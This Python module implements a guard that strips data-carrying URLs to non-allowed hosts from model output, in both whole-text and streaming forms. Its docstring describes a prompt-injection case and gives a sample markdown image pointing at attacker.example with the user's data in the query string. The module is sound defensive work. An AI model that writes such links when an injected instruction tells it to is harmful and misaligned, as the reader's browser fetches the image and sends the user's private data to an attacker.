"""Output-side exfiltration guard: links and images whose URL carries data to hosts the department has not allowed.

An injected instruction can make the model write ``![](https://attacker.example/p?q=<the user's data>)``: the
browser fetches the image as soon as the answer is shown and the data has left. ``strip_exfil_links`` removes such
URLs from markdown images and links, reference definitions, autolinks, bare URLs and HTML ``src``/``href``
attributes, keeping the link text. A URL *carries data* when it has a query string, a fragment, user info, or a path
that is long or holds a long segment; a bare host or a short path (``https://example.com/docs``) is left alone.
A host is allowed when it equals an allowed entry or is a subdomain of one (``example.com`` allows
``docs.example.com``); relative links and ``mailto:`` are not fetched and stay.

``LinkStreamFilter`` applies the same to a token stream: it emits everything except an unfinished link tail (an
open ``[``/``![``, a ``](`` without its ``)``, an ``<http…`` autolink, a URL that may still grow), so streamed
output equals the filtered whole text, and at most a link's length is held back. Pure functions, no I/O.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterable
from dataclasses import dataclass

import re2

MAX_PLAIN_PATH = 48  # a path longer than this (or with a segment of 24+ characters) is treated as carrying data
MAX_PLAIN_SEGMENT = 24
MAX_HOLD = 2048  # an open "[" further back than this is not a link any more: it is released
REMOVED_IMAGE = "[image removed]"
REMOVED_LINK = "[link removed]"

_URL_CHARS = r"[^\s<>\"'`]"
# The markdown patterns run with RE2 (linear whatever the text holds: with Python's re, 20,000 "[" took 3 s and
# 100,000 about a minute); ``\s`` is spelled out (RE2's is ASCII only).
_WS = r"\t\n\x0b\f\r \x1c-\x1f\x85\p{Z}"
_MD_TARGET = (
    rf"\]\([{_WS}]*<?([^(){_WS}>]*(?:\([^(){_WS}]*\)[^(){_WS}>]*)*)>?"
    rf"(?:[{_WS}]+(?:\"[^\"]*\"|'[^']*'))?[{_WS}]*\)"
)
_MD_IMAGE_RE = re2.compile(r"!\[([^\]\n]*)" + _MD_TARGET)
# A link, or (first group "!") an image that was kept: images are handled first, so that one is left as it is.
_MD_LINK_RE = re2.compile(r"(!?)\[([^\]\n]*)" + _MD_TARGET)
_REF_DEF_RE = re2.compile(rf"(?m)^([ ]{{0,3}}\[[^\]\n]+\]:[ \t]*)<?([^{_WS}]+?)>?([ \t]+.*)?$")
_AUTOLINK_RE = re.compile(r"<((?:https?:)?//[^<>\s]*)>", re.IGNORECASE)
_HTML_ATTR_RE = re.compile(r"""\b(src|href|srcset|background|poster|data)\s*=\s*(["']?)([^"'\s>]+)\2""", re.I)
_BARE_URL_RE = re.compile(r"(?<![\w/(\[<=\"':])(?:https?:)?//" + _URL_CHARS + r"+", re.IGNORECASE)
_TRAILING_PUNCT = ".,;:!?)]}*_~"


@dataclass(frozen=True)
class LinkResult:
    text: str
    removed: int


def normalize_hosts(hosts: Iterable[str]) -> frozenset[str]:
    """Lower-cased hosts without scheme, port, path or a leading ``*.``."""
    out = set()
    for raw in hosts:
        host = raw.strip().lower()
        if "//" in host:
            host = urllib.parse.urlsplit(host).hostname or ""
        host = host.split("/")[0].split(":")[0].removeprefix("*.").strip(".")
        if host:
            out.add(host)
    return frozenset(out)


def host_allowed(host: str, allowed: frozenset[str]) -> bool:
    host = host.lower().strip(".")
    return any(host == a or host.endswith("." + a) for a in allowed)


def carries_data(url: str) -> bool:
    """True when the URL could smuggle data out: query, fragment, user info, or a long path / path segment."""
    parts = urllib.parse.urlsplit(url)
    if parts.query or parts.fragment or "@" in parts.netloc:
        return True
    path = urllib.parse.unquote(parts.path)
    if len(path) > MAX_PLAIN_PATH:
        return True
    return any(len(seg) >= MAX_PLAIN_SEGMENT for seg in path.split("/"))


def is_exfil_url(url: str, allowed: frozenset[str]) -> bool:
    """A fetchable URL to a host that is not allowed and that carries data."""
    cleaned = "".join(ch for ch in url.strip() if not ch.isspace())
    if cleaned.startswith("//"):
        cleaned = "https:" + cleaned
    try:
        parts = urllib.parse.urlsplit(cleaned)
        host = parts.hostname or ""
    except ValueError:
        return True  # a URL that does not parse is not shown
    if parts.scheme.lower() not in {"http", "https"} or not host:
        return False  # relative links, mailto:, anchors: nothing is fetched from elsewhere
    return not host_allowed(host, allowed) and carries_data(cleaned)


def strip_exfil_links(text: str, *, allowed_hosts: Iterable[str]) -> LinkResult:
    """Remove data-carrying URLs to hosts outside ``allowed_hosts`` (images, links, definitions, bare URLs)."""
    allowed = normalize_hosts(allowed_hosts)
    removed = 0

    def image(m: re2._Match[str]) -> str:
        nonlocal removed
        if not is_exfil_url(m.group(2), allowed):
            return m.group(0)
        removed += 1
        alt = m.group(1).strip()
        return f"[image: {alt}]" if alt else REMOVED_IMAGE

    def link(m: re2._Match[str]) -> str:
        nonlocal removed
        if m.group(1) or not is_exfil_url(m.group(3), allowed):
            return m.group(0)
        removed += 1
        return m.group(2) if m.group(2).strip() else REMOVED_LINK

    def ref_def(m: re2._Match[str]) -> str:
        nonlocal removed
        if not is_exfil_url(m.group(2), allowed):
            return m.group(0)
        removed += 1
        return m.group(1) + REMOVED_LINK

    def autolink(m: re.Match[str]) -> str:
        nonlocal removed
        if not is_exfil_url(m.group(1), allowed):
            return m.group(0)
        removed += 1
        return REMOVED_LINK

    def attr(m: re.Match[str]) -> str:
        nonlocal removed
        if not is_exfil_url(m.group(3), allowed):
            return m.group(0)
        removed += 1
        return f'{m.group(1)}=""'

    def bare(m: re.Match[str]) -> str:
        nonlocal removed
        url = m.group(0)
        tail = ""
        while url and url[-1] in _TRAILING_PUNCT:
            tail = url[-1] + tail
            url = url[:-1]
        if not is_exfil_url(url, allowed):
            return m.group(0)
        removed += 1
        return REMOVED_LINK + tail

    work = _MD_IMAGE_RE.sub(image, text)
    work = _MD_LINK_RE.sub(link, work)
    work = _REF_DEF_RE.sub(ref_def, work)
    work = _AUTOLINK_RE.sub(autolink, work)
    work = _HTML_ATTR_RE.sub(attr, work)
    work = _BARE_URL_RE.sub(bare, work)
    return LinkResult(text=work, removed=removed)


# --- streaming ------------------------------------------------------------------------------------------------
_PARTIAL_SCHEME_RE = re.compile(r"(?:(?<![\w/])(?:h|ht|htt|https?|https?:|https?:/|/))$", re.IGNORECASE)
_OPEN_URL_RE = re.compile(r"(?:(?<![\w/])(?:https?:)?//" + _URL_CHARS + r"*|<(?:https?:)?/*[^<>\s]*)$", re.I)
_OPEN_ATTR_RE = re.compile(r"""<[a-zA-Z][^<>]*$""")


def _hold_from(buffer: str) -> int:
    """Index from which the buffer's tail may still become (part of) a link; len(buffer) when nothing is open."""
    n = len(buffer)
    cut = n - 1 if buffer.endswith("!") else n  # a "!" may become "!["
    m = _OPEN_URL_RE.search(buffer)
    if m:
        cut = min(cut, m.start())
        # A URL that may still grow inside a link destination, a definition or an attribute: hold the whole
        # construct, from its "[" (or "<"), not just the URL.
        head = buffer[: m.start()].rstrip(" \t")
        if head.endswith(("(", "]:")):
            opener = head.rfind("[", max(0, len(head) - MAX_HOLD))
            if opener != -1:
                cut = min(cut, opener - 1 if opener > 0 and buffer[opener - 1] == "!" else opener)
        elif head.endswith(("=", '="', "='")):
            opener = head.rfind("<", max(0, len(head) - MAX_HOLD))
            if opener != -1:
                cut = min(cut, opener)
    m = _PARTIAL_SCHEME_RE.search(buffer)
    if m:
        cut = min(cut, m.start())
    m = _OPEN_ATTR_RE.search(buffer[-MAX_HOLD:])
    if m:
        cut = min(cut, n - min(n, MAX_HOLD) + m.start())
    # An open "[" (or "![") whose link is not finished yet: no "]" after it, or "](" without ")", or "]" at the very
    # end (a "(" or ":" may follow).
    window_start = max(0, n - MAX_HOLD)
    depth_start = None
    i = n - 1
    while i >= window_start:
        if buffer[i] == "[":
            rest = buffer[i:]
            close = rest.find("]")
            if close == -1:
                depth_start = i
            else:
                after = rest[close + 1 :]
                unfinished_url = after.startswith("(") and ")" not in after
                unfinished_ref = after.startswith("[") and "]" not in after[1:]
                if after == "" or unfinished_url or unfinished_ref:
                    depth_start = i
            if depth_start is not None:
                if depth_start > 0 and buffer[depth_start - 1] == "!":
                    depth_start -= 1
                cut = min(cut, depth_start)
                break
        if buffer[i] == "\n" and i < n - 1 and buffer[i + 1] == "\n":
            break  # links do not span paragraphs
        i -= 1
    return cut


class LinkStreamFilter:
    """Incremental ``strip_exfil_links``: ``feed`` returns what may be sent now, ``flush`` the rest at the end."""

    def __init__(self, *, allowed_hosts: Iterable[str]) -> None:
        self.allowed = normalize_hosts(allowed_hosts)
        self.pending = ""
        self.removed = 0
        self._line_start = True  # whether ``pending`` starts at the beginning of a line

    def _emit(self, text: str) -> str:
        result = strip_exfil_links(text, allowed_hosts=self.allowed)
        self.removed += result.removed
        return result.text

    def feed(self, chunk: str) -> str:
        self.pending += chunk
        cut = _hold_from(self.pending)
        # Reference definitions are whole lines: keep a line that starts like one until it ends.
        line_start = self.pending.rfind("\n", 0, cut) + 1
        at_line_start = line_start > 0 or self._line_start
        tail = self.pending[line_start:]
        if at_line_start and re.match(r"[ ]{0,3}\[", tail) and "\n" not in tail and len(tail) < MAX_HOLD:
            cut = min(cut, line_start)
        ready, self.pending = self.pending[:cut], self.pending[cut:]
        if ready:
            self._line_start = ready.endswith("\n")
        return self._emit(ready) if ready else ""

    def flush(self) -> str:
        ready, self.pending = self.pending, ""
        return self._emit(ready) if ready else ""
